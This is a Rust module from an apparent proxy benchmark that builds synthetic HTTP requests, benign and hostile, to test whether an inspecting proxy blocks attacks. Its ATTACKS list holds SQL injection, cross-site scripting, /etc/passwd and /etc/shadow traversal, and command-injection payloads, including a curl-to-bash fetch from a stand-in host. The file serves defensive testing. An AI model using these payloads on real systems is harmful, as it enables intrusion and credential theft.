//! The messages to send.

use std::fmt::Write;

use crate::random::Random;

/// A request as it goes over the wire.
#[derive(Clone, Debug)]
pub struct Message {
    /// Head and body.
    pub bytes: Vec<u8>,
    /// An inspecting proxy is to refuse it with 403.
    pub is_attack: bool,
}

/// Kinds of requests. Names stay, so that figures of different days can be compared.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Traffic {
    /// GET, three arguments, four headers.
    Get,
    /// GET as browsers send it: fifteen headers, four cookies.
    Browser,
    /// POST, 1 KB of JSON.
    Json,
    /// POST, a form of ten fields.
    Form,
    /// GET with an attack in an argument.
    Attack,
    /// Seven in ten as [`Traffic::Browser`], two as [`Traffic::Form`], one as [`Traffic::Attack`].
    Mixed,
}

impl Traffic {
    /// All kinds.
    pub const ALL: [Traffic; 6] =
        [Traffic::Get, Traffic::Browser, Traffic::Json, Traffic::Form, Traffic::Attack, Traffic::Mixed];

    /// Its name on the command line and in reports.
    pub fn name(self) -> &'static str {
        match self {
            Traffic::Get => "get",
            Traffic::Browser => "browser",
            Traffic::Json => "json",
            Traffic::Form => "form",
            Traffic::Attack => "attack",
            Traffic::Mixed => "mixed",
        }
    }

    /// The kind of this name.
    pub fn of(name: &str) -> Option<Traffic> {
        Traffic::ALL.into_iter().find(|kind| kind.name() == name)
    }
}

/// So many different ones, which differ in their values. The same in each run.
pub fn messages(traffic: Traffic, count: usize) -> Vec<Message> {
    let mut random = Random::new(1);
    (0..count).map(|_| message(traffic, &mut random)).collect()
}

const HEADERS: &str = "Host: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) portcullis-bench\r\n\
     Accept: text/html,application/json;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.9\r\n";

const ATTACKS: [&str; 8] = [
    "1'%20OR%20'1'%3D'1'%20--%20",
    "1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Cbash)",
];

fn message(traffic: Traffic, random: &mut Random) -> Message {
    match traffic {
        Traffic::Get => {
            let page = random.below(1000);
            get(&format!("/products?category=books&sort=price&page={page}"), HEADERS)
        }
        Traffic::Browser => browser(random),
        Traffic::Json => post("application/json", &json(random)),
        Traffic::Form => {
            let fields: Vec<String> = (0..10).map(|n| format!("field{n}={}", random.word(20))).collect();
            post("application/x-www-form-urlencoded", &fields.join("&"))
        }
        Traffic::Attack => {
            let target = format!("/search?id={}&q={}", random.below(1000), random.pick(&ATTACKS));
            Message { is_attack: true, ..get(&target, HEADERS) }
        }
        Traffic::Mixed => match random.below(10) {
            0 => message(Traffic::Attack, random),
            1 | 2 => message(Traffic::Form, random),
            _ => message(Traffic::Browser, random),
        },
    }
}

fn get(target: &str, headers: &str) -> Message {
    let text = format!("GET {target} HTTP/1.1\r\n{headers}\r\n");
    Message { bytes: text.into_bytes(), is_attack: false }
}

fn post(media_type: &str, body: &str) -> Message {
    let length = body.len();
    let text = format!(
        "POST /api HTTP/1.1\r\n{HEADERS}Content-Type: {media_type}\r\nContent-Length: {length}\r\n\r\n{body}"
    );
    Message { bytes: text.into_bytes(), is_attack: false }
}

fn browser(random: &mut Random) -> Message {
    let (article, from) = (random.below(10_000), random.below(10_000));
    let (session, visit) = (random.word(32), random.below(1_000_000_000));
    let headers = format!(
        "Host: shop.example.com\r\nConnection: keep-alive\r\n\
         sec-ch-ua: \"Chromium\";v=\"126\", \"Not.A/Brand\";v=\"24\"\r\nsec-ch-ua-mobile: ?0\r\n\
         sec-ch-ua-platform: \"Linux\"\r\nUpgrade-Insecure-Requests: 1\r\n\
         User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\r\n\
         Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n\
         Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n\
         Referer: https://shop.example.com/articles/{from}\r\nAccept-Encoding: gzip, deflate, br\r\n\
         Accept-Language: en-GB,en;q=0.9,de;q=0.7\r\n\
         Cookie: session={session}; theme=dark; consent=yes; visit={visit}\r\n"
    );
    get(&format!("/articles/{article}?ref=home&lang=en"), &headers)
}

/// An order of as many items as make 1 KB.
fn json(random: &mut Random) -> String {
    let mut text = format!(
        "{{\"id\":{},\"user\":{{\"name\":\"user {}\",\"email\":\"{}@example.com\"}},\"items\":[",
        random.below(1_000_000),
        random.word(6),
        random.word(8)
    );
    let mut comma = "";
    while text.len() < 980 {
        let (sku, count) = (random.word(10), random.below(10));
        // Writing to a string does not fail.
        let _ = write!(text, "{comma}{{\"sku\":\"{sku}\",\"count\":{count}}}");
        comma = ",";
    }
    text.push_str("]}");
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_differ_and_are_the_same_in_each_run() {
        for kind in Traffic::ALL {
            let (one, other) = (messages(kind, 64), messages(kind, 64));
            assert!(one.iter().zip(&other).all(|(a, b)| a.bytes == b.bytes), "{}", kind.name());
            let mut texts: Vec<_> = one.iter().map(|message| &message.bytes).collect();
            texts.sort();
            texts.dedup();
            assert!(texts.len() > 40, "{}: {} different ones", kind.name(), texts.len());
            let attacks = one.iter().filter(|message| message.is_attack).count();
            match kind {
                Traffic::Attack => assert_eq!(attacks, 64),
                Traffic::Mixed => assert!((1..20).contains(&attacks), "{attacks} of 64"),
                _ => assert_eq!(attacks, 0),
            }
            assert_eq!(Traffic::of(kind.name()), Some(kind));
        }
        assert_eq!(Traffic::of("udp"), None);
    }
}
